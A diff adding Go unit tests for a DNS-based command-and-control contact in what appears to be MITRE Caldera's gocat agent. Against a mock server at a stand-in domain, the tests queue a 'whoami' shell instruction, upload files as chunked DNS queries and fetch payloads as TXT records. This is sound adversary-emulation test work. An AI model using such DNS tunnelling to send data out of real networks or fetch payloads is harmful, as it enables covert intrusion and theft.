@@ -0,0 +1,102 @@
+package contact
+
+import (
+	"bytes"
+	"encoding/json"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/mitre/gocat/c2test"
+	"github.com/mitre/gocat/protocol"
+)
+
+const testDNSDomain = "c2.example.test"
+
+// Starts a mock C2 server with a DNS listener and returns it along with a DNS contact pointed at it.
+func newTestDNSContact(t *testing.T) (*c2test.Server, *DNS) {
+	server := c2test.NewServer()
+	dnsServer, err := server.StartDNS(testDNSDomain)
+	if err != nil {
+		server.Close()
+		t.Fatal(err)
+	}
+	contact := &DNS{name: "DNS"}
+	c2Config := map[string]string{"dnsDomain": testDNSDomain, "dnsServer": dnsServer}
+	if valid, _ := contact.C2RequirementsMet(protocol.Profile{}, c2Config); !valid {
+		server.Close()
+		t.Fatal("DNS contact requirements not met")
+	}
+	return server, contact
+}
+
+func newTestProfile() protocol.Profile {
+	// Enough executors to spread the beacon across several queries.
+	executors := make([]string, 50)
+	for i := range executors {
+		executors[i] = "executor"
+	}
+	return protocol.Profile{Paw: "dnspaw", Host: "host", Platform: "linux", Executors: executors}
+}
+
+func TestDNSBeacon(t *testing.T) {
+	server, contact := newTestDNSContact(t)
+	defer server.Close()
+	server.QueueInstruction(c2test.NewInstruction("link-1", "sh", "whoami"))
+
+	response := contact.GetBeaconBytes(newTestProfile())
+	if response == nil {
+		t.Fatal("beacon failed")
+	}
+	var beacon map[string]interface{}
+	if err := json.Unmarshal(response, &beacon); err != nil {
+		t.Fatal(err)
+	}
+	if beacon["paw"] != "dnspaw" || !strings.Contains(beacon["instructions"].(string), "link-1") {
+		t.Errorf("unexpected beacon response %s", string(response))
+	}
+	beacons := server.RequireBeacons(t, 1, time.Second)
+	if len(beacons[0].Executors) != 50 {
+		t.Errorf("beacon was not reassembled: got %d executors", len(beacons[0].Executors))
+	}
+}
+
+func TestDNSFileTransfers(t *testing.T) {
+	server, contact := newTestDNSContact(t)
+	defer server.Close()
+	data := bytes.Repeat([]byte("0123456789abcdef"), 200)
+	profile := newTestProfile()
+
+	// Uploads are sent as many A query chunks.
+	if err := contact.UploadFileBytes(profile, "upload.bin", data); err != nil {
+		t.Fatal(err)
+	}
+	if upload := server.RequireUpload(t, "upload.bin", time.Second); !bytes.Equal(upload.Data, data) || upload.Paw != "dnspaw" {
+		t.Errorf("upload was not reassembled: got %d bytes from %s", len(upload.Data), upload.Paw)
+	}
+
+	// Payloads are fetched as many TXT record chunks.
+	server.AddPayload("payload.bin", data)
+	payload, name := contact.GetPayloadBytes(profile, "payload.bin")
+	if !bytes.Equal(payload, data) || name != "payload.bin" {
+		t.Errorf("payload was not reassembled: got %d bytes named %s", len(payload), name)
+	}
+	if payload, _ = contact.GetPayloadBytes(profile, "missing.bin"); payload != nil {
+		t.Error("missing payload returned data")
+	}
+}
+
+func TestDNSRetransmitsDroppedQueries(t *testing.T) {
+	server, contact := newTestDNSContact(t)
+	defer server.Close()
+	server.DropDNSQueries(1)
+
+	contact.SendExecutionResults(newTestProfile(), protocol.Result{ID: "link-1", Output: []byte("output"), Status: "0"})
+	result := server.RequireResult(t, "link-1", time.Second)
+	if string(result.Output) != "output" {
+		t.Errorf("unexpected result output %q", string(result.Output))
+	}
+	if beacons := server.Beacons(); len(beacons) != 0 {
+		t.Errorf("result submission recorded as %d beacons", len(beacons))
+	}
+}